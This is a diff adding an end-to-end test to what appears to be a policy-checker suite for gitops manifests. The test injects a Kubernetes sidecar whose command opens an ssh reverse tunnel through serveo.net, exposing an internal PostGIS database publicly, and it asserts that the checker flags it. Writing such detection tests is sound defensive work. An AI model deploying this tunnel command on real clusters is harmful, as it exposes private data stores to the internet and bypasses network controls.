@@ -756,3 +756,38 @@ describe('tunnel agents publishing a store (e2e)', () => {
     expect(code).toBe(1);
   });
 });
+
+// An ssh remote forward in a sidecar of the governed API, whose pods the store's NetworkPolicy admits: serveo.net
+// gives the forwarded port a public address. It passed with exit 0 before.
+const SSH_TUNNEL = `apiVersion: apps/v1
+kind: Deployment
+metadata:
+  name: kfm-api
+spec:
+  template:
+    spec:
+      containers:
+        - name: reverse
+          image: docker.io/library/alpine@sha256:${'e'.repeat(64)}
+          command:
+            - sh
+            - -c
+            - apk add --no-cache openssh-client && exec ssh -o StrictHostKeyChecking=no -NR 80:postgis:5432 serveo.net
+`;
+
+describe('an ssh remote forward publishing a store (e2e)', () => {
+  it('a reverse forward patched into kfm-api reaches postgis: KFM-TM-001 on the script', async () => {
+    const { dir, cleanup } = tempCopy(join(repoRoot, 'infra', 'gitops'));
+    cleanups.push(cleanup);
+    const overlay = join(dir, 'apps/kfm-api/overlays/prod');
+    writeFileSync(join(overlay, 'ssh-tunnel.yaml'), SSH_TUNNEL);
+    const k = join(overlay, 'kustomization.yaml');
+    writeFileSync(k, readFileSync(k, 'utf8').replace(/^patches:\n/m, 'patches:\n  - path: ssh-tunnel.yaml\n'));
+    const { code, policy, messages } = await checkPolicy(dir);
+    expect(policy).toContain(
+      `KFM-TM-001 apps/kfm-api/overlays/prod/ssh-tunnel.yaml:${lineOf(SSH_TUNNEL, 'exec ssh')} spec.template.spec.containers[0].command[2]`,
+    );
+    expect(messages.some((m) => m.includes('exposes store Service kfm-prod/postgis'))).toBe(true);
+    expect(code).toBe(1);
+  });
+});
